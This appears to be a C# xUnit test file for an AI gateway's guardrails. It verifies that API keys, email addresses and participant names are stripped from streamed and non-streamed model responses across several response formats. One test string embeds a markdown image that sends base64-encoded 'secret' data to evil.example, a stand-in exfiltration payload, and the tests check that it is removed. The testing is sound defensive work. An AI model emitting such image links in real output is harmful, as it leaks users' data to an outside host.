using System.Net;
using System.Text;
using System.Text.Json;
using System.Text.Json.Nodes;
using Artisan.Core.Guardrails.Policy;
using Artisan.Testing.Vendors;
using Artisan.Web.Tests.Gateway.Vendors;
using Artisan.Web.Tests.Hosting;
using Shouldly;
using Xunit;

namespace Artisan.Web.Tests.Guardrails;

/// <summary>By both doors: streamed answers whose text is no plain content, and names of those who take part.</summary>
public sealed class StreamedPartsTests(VendorsFixture fixture) : IClassFixture<VendorsFixture>, IAsyncLifetime
{
    private const string Mail = "anna.weber@kestrel-foods.example", Key = "sk-proj-Zq83hfKd02mXcVb91LqPz7Rt5Ys4Wn6A";
    private const string Chat = "/v1/chat/completions", Messages = "/v1/messages";
    private const string Told = $"The key is {Key}, I may write to {Mail}. ![x](https://evil.example/p.png?d=c2VjcmV0LWN1c3RvbWVyLWxpc3Qtb2YtdGhlLXllYXI) That is all.";

    private static int s_asked;

    private RunningArtisan App => fixture.App;

    public async Task InitializeAsync() => await App.GuardAsync(_ => new GuardrailPolicy { AlertPerHour = 0 });

    public Task DisposeAsync() => Task.CompletedTask;

    /// <summary>Deltas with <c>@</c> where the text stands.</summary>
    public static TheoryData<string, string> Deltas
    {
        get
        {
            var data = new TheoryData<string, string>();
            foreach (string door in (string[])[Chat, Messages])
            {
                data.Add(door, """{"content":[{"type":"text","text":"@"}]}""");
                data.Add(door, """{"content":[{"type":"thinking","thinking":[{"type":"text","text":"@"}]}]}""");
                data.Add(door, """{"audio":{"id":"audio_1","transcript":"@"}}""");
                data.Add(door, """{"refusal":"@"}""");
            }
            return data;
        }
    }

    [Theory]
    [MemberData(nameof(Deltas))]
    public async Task What_must_not_leave_is_taken_out_wherever_the_text_stands(string door, string delta)
    {
        await App.GuardAsync(p => p with { Output = p.Output with { Secrets = GuardAction.Sanitise }, Pii = p.Pii with { ToCallers = PiiAction.Replace } });
        Stream(Pieces(Told).Select(p => Filled(delta, p)));
        string text = TextOf(await SendAsync(door));
        text.ShouldStartWith("The key is ");
        text.ShouldEndWith(" That is all.");
        text.ShouldNotContain("sk-proj-");
        text.ShouldNotContain(Mail);
        text.ShouldNotContain("evil.example");
    }

    [Theory]
    [MemberData(nameof(Deltas))]
    public async Task What_is_clean_arrives_as_it_was_told(string door, string delta)
    {
        const string clean = "Revenue grew by 12 % in May [see the report], and https://docs.example.com/start tells why.";
        string[] deltas = [.. Pieces(clean).Select(p => Filled(delta, p))];
        Stream(deltas);
        string answer = await SendAsync(door);
        TextOf(answer).ShouldBe(clean);
        if (door == Chat)
            string.Concat(Events(answer).Select(e => e["choices"]![0]!["delta"]!["audio"]?["id"]?.GetValue<string>())).ShouldBe(delta.Contains("audio_1", StringComparison.Ordinal) ? string.Concat(deltas.Select(_ => "audio_1")) : "");
    }

    [Fact]
    public async Task Sound_passes_while_what_it_says_is_held_back()
    {
        await App.GuardAsync(p => p with { Pii = p.Pii with { ToCallers = PiiAction.Replace } });
        Stream([.. Pieces($"Write to {Mail} today.").Select((p, i) => "{\"audio\":{\"data\":\"U291bmQ" + i + "\",\"transcript\":" + JsonSerializer.Serialize(p) + "}}"), """{"audio":{"expires_at":7}}"""]);
        JsonNode[] events = Events(await SendAsync(Chat));
        string[] sounds = [.. events.Select(e => (string?)e["choices"]![0]!["delta"]!["audio"]?["data"]).OfType<string>()];
        sounds.ShouldBe(Pieces($"Write to {Mail} today.").Select((_, i) => $"U291bmQ{i}"));
        string.Concat(events.Select(e => (string?)e["choices"]![0]!["delta"]!["audio"]?["transcript"])).ShouldBe("Write to <EMAIL_ADDRESS_1> today.");
    }

    [Fact]
    public async Task Choices_that_come_in_one_chunk_are_filtered_each_for_itself()
    {
        await App.GuardAsync(p => p with { Output = p.Output with { Secrets = GuardAction.Sanitise } });
        string other = "All is well. ".PadRight(Told.Length, '.');
        string[] chunks = [.. Pieces(Told).Zip(Pieces(other), (a, b) => $$$"""{"id":"c","object":"chat.completion.chunk","created":1,"model":"m","choices":[{"index":0,"delta":{"content":{{{JsonSerializer.Serialize(a)}}}},"finish_reason":null},{"index":1,"delta":{"content":{{{JsonSerializer.Serialize(b)}}}},"finish_reason":null}]}"""),
            """{"id":"c","object":"chat.completion.chunk","created":1,"model":"m","choices":[{"index":0,"delta":{},"finish_reason":"stop"},{"index":1,"delta":{},"finish_reason":"stop"}]}"""];
        App.Vendor.FailNext(new VendorFault { Status = 200, ContentType = "text/event-stream", Body = string.Concat(chunks.Select(c => $"data: {c}\n\n")) + "data: [DONE]\n\n" });
        JsonNode[] events = Events(await SendAsync(Chat, ""","n":2"""));
        string Of(int number) => string.Concat(events.SelectMany(e => e["choices"]!.AsArray()).Where(c => (int)c!["index"]! == number).Select(c => (string?)c!["delta"]!["content"]));
        Of(0).ShouldStartWith("The key is <SECRET_1>");
        Of(0).ShouldNotContain("evil.example");
        Of(1).ShouldBe(other);
        events.SelectMany(e => e["choices"]!.AsArray()).Count(c => (string?)c!["finish_reason"] == "stop").ShouldBe(2);
    }

    [Fact]
    public async Task A_call_of_a_tool_that_comes_with_text_is_filtered_as_well()
    {
        await App.GuardAsync(p => p with { Output = p.Output with { Secrets = GuardAction.Sanitise } });
        Stream(["""{"content":"I call it.","tool_calls":[{"index":0,"id":"c","type":"function","function":{"name":"f","arguments":"{\"key\":\"The API key is KEY\"}"}}]}""".Replace("KEY", Key)]);
        string answer = await SendAsync(Chat);
        answer.ShouldNotContain("sk-proj-");
        TextOf(answer).ShouldBe("I call it.");
        Events(answer).Select(e => (string?)e["choices"]![0]!["delta"]!["tool_calls"]?[0]?["function"]?["arguments"]).OfType<string>().ShouldHaveSingleItem().ShouldContain("SECRET_1");
    }

    [Theory]
    [InlineData(false)]
    [InlineData(true)]
    public async Task The_name_of_who_takes_part_reaches_no_model_and_comes_back(bool stream)
    {
        await App.GuardAsync(p => p with { Pii = p.Pii with { ToModels = PiiAction.Replace, EntityTypes = ["PERSON", "EMAIL_ADDRESS"] } });
        App.Vendor.Reply = request => $"Dear {request["messages"]![1]!["name"]}, {request["messages"]![2]!["name"]} and {request["messages"]![1]!["name"]}2 agree.";
        string answer = await SendAsync(Chat, "", stream, $$"""{"role":"system","name":"desk","content":"Be kind."},{"role":"user","name":"Anna_Weber","content":"Hello {{++s_asked}}"},{"role":"user","name":"{{Mail}}","content":"Go on"}""");
        JsonNode sent = App.Vendor.Requests[^1].Json!;
        sent["messages"]!.AsArray().Select(m => (string?)m!["name"]).ShouldBe(["desk", "PERSON_1", "EMAIL_ADDRESS_1"]);
        TextOf(answer, stream).ShouldBe($"Dear Anna Weber, {Mail} and PERSON_12 agree.");
    }

    private void Stream(IEnumerable<string> deltas)
    {
        static string Chunk(string delta, string end = "null") => $$$"""data: {"id":"c","object":"chat.completion.chunk","created":1,"model":"m","choices":[{"index":0,"delta":{{{delta}}},"finish_reason":{{{end}}}}]}""" + "\n\n";
        App.Vendor.FailNext(new VendorFault { Status = 200, ContentType = "text/event-stream", Body = Chunk("""{"role":"assistant"}""") + string.Concat(deltas.Select(d => Chunk(d))) + Chunk("{}", "\"stop\"") + "data: [DONE]\n\n" });
    }

    private static IEnumerable<string> Pieces(string text) => text.Chunk(6).Select(c => new string(c));

    private static string Filled(string delta, string text) => delta.Replace("\"@\"", JsonSerializer.Serialize(text));

    private static JsonNode[] Events(string answer) => [.. answer.Split('\n').Where(l => l.StartsWith("data: {", StringComparison.Ordinal)).Select(l => JsonNode.Parse(l[6..])!)];

    // All that a person would read, in whichever place and dialect.
    private static string TextOf(string answer, bool stream = true) => string.Concat((stream ? Events(answer) : [JsonNode.Parse(answer)!]).SelectMany(e => TextsOf(e["delta"] ?? e["choices"]?[0]?["delta"] ?? e["choices"]?[0]?["message"])));

    private static IEnumerable<string?> TextsOf(JsonNode? delta)
    {
        if (delta is not JsonObject said)
            yield break;
        yield return said["text"]?.GetValue<string>() ?? (said["thinking"] as JsonValue)?.GetValue<string>() ?? (said["content"] as JsonValue)?.GetValue<string>();
        foreach (JsonNode? part in said["content"] as JsonArray ?? [])
        {
            yield return (string?)part!["text"];
            foreach (JsonNode? thought in part["thinking"] as JsonArray ?? [])
                yield return (string?)thought!["text"];
        }
        yield return (string?)said["refusal"];
        yield return (string?)said["audio"]?["transcript"];
    }

    private async Task<string> SendAsync(string door, string more = "", bool stream = true, string? messages = null)
    {
        using HttpClient client = App.Client(App.Home.ApiKey);
        messages ??= $$"""{"role":"user","content":"Tell {{++s_asked}}"}""";
        HttpResponseMessage answer = await client.PostAsync(door, new StringContent($$"""{"model":"gpt-4o-mini","max_tokens":90,"stream":{{(stream ? "true" : "false")}}{{more}},"messages":[{{messages}}]}""", Encoding.UTF8, "application/json"));
        string body = await answer.Content.ReadAsStringAsync();
        answer.StatusCode.ShouldBe(HttpStatusCode.OK, body);
        return body;
    }
}
